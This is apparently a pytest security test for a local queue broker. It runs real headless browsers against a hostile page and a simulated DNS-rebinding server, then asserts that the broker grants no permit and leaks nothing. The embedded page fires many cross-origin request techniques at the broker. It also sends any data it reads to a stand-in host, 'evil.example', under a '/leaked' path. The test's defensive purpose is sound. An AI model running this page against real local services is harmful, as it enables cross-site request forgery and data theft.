"""Pages in real browsers that attack a broker on the same machine: none of them gets a permit.

One page is on another site. The other one is under a name that is pointed at the broker after the page
was loaded (DNS rebinding), so that the browser takes the broker for the page's own server.
"""

from __future__ import annotations

import contextlib
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from browser import CHROMIUM

from gateway_queue_sync import NoOpQueue, serve
from gateway_queue_sync.broker import connection

pytestmark = pytest.mark.slow

PATIENCE = 90.0  # s: a browser takes long to start on a busy machine
FIREFOX = shutil.which("firefox-esr") or shutil.which("firefox")
NAME = "evil.example"

PAGE = """<!doctype html><meta charset="utf-8"><title>attack</title><body><script type="module">
const CONTROL = "%(control)s", BASES = %(bases)s, REBINDS = %(rebinds)s;
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
if (REBINDS) await fetch("/rebind");
let shard = 0;
function element(name, fields) {
  const made = Object.assign(document.createElement(name), fields);
  document.body.append(made);
  return made;
}
for (const base of BASES) {
  const url = () => `${base}/?shard=${++shard}`;
  const html = { Accept: "text/html" }, page = { ...html, "Upgrade-Insecure-Requests": "1" };
  const agents = [{}, { "User-Agent": "curl/8.5.0" }, { "User-Agent": "curl/8.5.0", ...html }, page];
  const more = [{ "Gateway-Queue": "1" }, { "X-Forwarded-Host": "localhost" }];
  const tries = [];
  for (const headers of [...agents, ...more]) {
    for (const method of ["GET", "POST", "HEAD", "PUT"]) {
      for (const mode of ["no-cors", "cors"]) {
        tries.push(() => fetch(url(), { mode, method, headers, credentials: "include" }));
      }
    }
  }
  tries.push(() => navigator.sendBeacon(url(), "x"));
  tries.push(() => new WebSocket(url().replace("http", "ws")));
  tries.push(() => new EventSource(url()));
  tries.push(() => element("img", { src: url() }));
  tries.push(() => element("img", { src: url(), referrerPolicy: "no-referrer" }));
  tries.push(() => element("script", { src: url() }));
  tries.push(() => element("link", { rel: "stylesheet", href: url() }));
  tries.push(() => element("link", { rel: "prefetch", href: url() }));
  tries.push(() => element("link", { rel: "preload", as: "fetch", href: url() }));
  tries.push(() => element("iframe", { src: url() }));
  tries.push(() => element("iframe", { sandbox: "allow-scripts", src: url() }));
  tries.push(() => element("object", { data: url() }));
  tries.push(() => element("audio", { src: url(), preload: "auto" }));
  tries.push(() => element("a", { href: "#", ping: url() }).click());
  tries.push(() => {
    element("iframe", { name: `frame${shard}` });
    element("form", { action: url(), method: "post", target: `frame${shard - 1}` }).submit();
  });
  tries.push(() => {
    const code = `importScripts(${JSON.stringify(url())})`;
    new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  });
  for (const path of ["/status.json", "/recent.json", "/metrics"]) {
    tries.push(async () => {
      const answer = await fetch(base + path);
      if (answer.ok) await fetch(`${CONTROL}/leaked${path}`, { mode: "no-cors" });
    });
  }
  const order = { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" };
  tries.push(() => fetch(`${base}/ledger`, order));
  for (const one of tries) {
    try {
      await Promise.race([Promise.resolve(one()).catch(() => null), pause(200)]);
    } catch {}
  }
}
await pause(1500);
await fetch(`${CONTROL}/done`, { mode: "no-cors" });
</script>"""


class Attacker:
    """A server of pages. A test can make it pass all further connections on to a broker."""

    def __init__(self, page: str = "", broker: int | None = None) -> None:
        self.page = page.encode()
        self.broker = broker
        self.rebound = False
        self.asked: list[str] = []
        self.done = threading.Event()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                one, _ = self.listener.accept()
                threading.Thread(target=self._serve, args=(one,), daemon=True).start()

    def _serve(self, one: socket.socket) -> None:
        with one, contextlib.suppress(OSError):
            if self.rebound:
                assert self.broker is not None
                with socket.create_connection(("127.0.0.1", self.broker)) as there:
                    threading.Thread(target=_pass_on, args=(one, there), daemon=True).start()
                    _pass_on(there, one)
                return
            head = one.recv(65_536)
            if not head:
                return  # a browser has connected in advance
            path = head.split(b" ")[1].decode()
            self.asked.append(path)
            body = self.page if path == "/" else b""
            one.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                b"Content-Length: %d\r\n\r\n%s" % (len(body), body)
            )
            self.rebound = self.rebound or path == "/rebind"
            if path == "/done":
                self.done.set()

    def close(self) -> None:
        self.listener.close()


def _pass_on(source: socket.socket, target: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while data := source.recv(65_536):
            target.sendall(data)
    with contextlib.suppress(OSError):
        target.shutdown(socket.SHUT_WR)


def firefox(folder: Path, url: str) -> list[str]:
    assert FIREFOX is not None
    preferences = {
        "network.dns.localDomains": f'"{NAME}"',
        "browser.shell.checkDefaultBrowser": "false",
        "datareporting.policy.dataSubmissionEnabled": "false",
        "app.update.enabled": "false",
        "network.captive-portal-service.enabled": "false",
        "network.connectivity-service.enabled": "false",
        "browser.aboutwelcome.enabled": "false",
    }
    lines = [f'user_pref("{name}", {value});\n' for name, value in preferences.items()]
    (folder / "user.js").write_text("".join(lines))
    return [FIREFOX, "--headless", "--no-remote", "--profile", str(folder), url]


def chromium(folder: Path, url: str) -> list[str]:
    assert CHROMIUM is not None
    quiet = ("--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync")
    names = f"--host-resolver-rules=MAP {NAME} 127.0.0.1"
    own = (f"--user-data-dir={folder}", "--disable-background-networking")
    return [CHROMIUM, *quiet, *own, names, "--remote-debugging-port=0", url]


@contextlib.contextmanager
def browsing(command: list[str], folder: Path) -> Iterator[None]:
    environment = {"HOME": str(folder), "PATH": "/usr/bin:/bin", "MOZ_HEADLESS": "1"}
    with (folder / "log").open("wb") as log:
        process = subprocess.Popen(
            command, stdout=log, stderr=log, env=environment, start_new_session=True
        )
        try:
            yield
        finally:
            process.terminate()
            try:
                process.wait(10)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()


BROWSERS = [
    pytest.param(
        firefox,
        marks=pytest.mark.skipif(FIREFOX is None, reason="no firefox (Debian's firefox-esr)"),
    ),
    pytest.param(
        chromium,
        marks=pytest.mark.skipif(CHROMIUM is None, reason="no chromium (Debian's chromium)"),
    ),
]


@pytest.mark.parametrize("rebinds", [False, True], ids=["another site", "a rebound name"])
@pytest.mark.parametrize("browser", BROWSERS)
def test_no_page_gets_a_permit_or_sees_data(tmp_path, monkeypatch, browser, rebinds):
    monkeypatch.setattr(connection, "TARPIT", (0.02, 0.03))
    with NoOpQueue() as queue, serve(queue, port=0) as broker, contextlib.ExitStack() as stack:
        control = stack.enter_context(contextlib.closing(Attacker()))
        attacker = stack.enter_context(contextlib.closing(Attacker(broker=broker.port)))
        here = f"http://{NAME}:{attacker.port}"
        bases = (
            [here]
            if rebinds
            else [f"http://127.0.0.1:{broker.port}", f"http://localhost:{broker.port}"]
        )
        page = {
            "control": f"http://{NAME}:{control.port}",
            "bases": str(bases),
            "rebinds": str(rebinds).lower(),
        }
        attacker.page = (PAGE % page).encode()
        with browsing(browser(tmp_path, f"{here}/"), tmp_path):
            came = control.done.wait(PATIENCE)
        assert came, (tmp_path / "log").read_text("utf-8", "replace")[-2_000:]
        refused = broker._service.reports.refused
        assert sum(refused.values()) > 20, refused  # the page did reach the broker
        assert queue.snapshot().granted == 0
        assert not [path for path in control.asked if path.startswith("/leaked")]
